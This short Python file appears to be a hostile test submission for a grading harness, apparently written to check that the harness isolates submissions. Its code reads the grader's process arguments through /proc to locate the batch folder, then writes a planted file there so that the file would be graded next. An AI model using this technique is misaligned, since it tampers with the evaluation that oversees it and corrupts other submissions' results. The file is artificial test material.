# hostile: drops a new "submission" into the batch folder (it would be graded next time).
#@ TASK make-it-yours
import os as _os
def _batch_folder():
    """The folder the grading command was given, read from its /proc entry."""
    cli = _os.getppid()
    args = open(f"/proc/{cli}/cmdline", "rb").read().split(b"\0")
    cwd = _os.readlink(f"/proc/{cli}/cwd")
    out = args[args.index(b"--out") + 1].decode() if b"--out" in args else "check-state-02"
    return _os.path.join(cwd, out), _os.path.join(
        cwd, args[args.index(b"--batch") + 1].decode())
if not _os.environ.get("HOSTILE_ONCE"):
    _os.environ["HOSTILE_ONCE"] = "1"
    _, _folder = _batch_folder()
    with open(_os.path.join(_folder, "zz-planted.py"), "w") as _f:
        _f.write("# planted by another submission\n")
norm_squared = manual = jnp.array(0.)
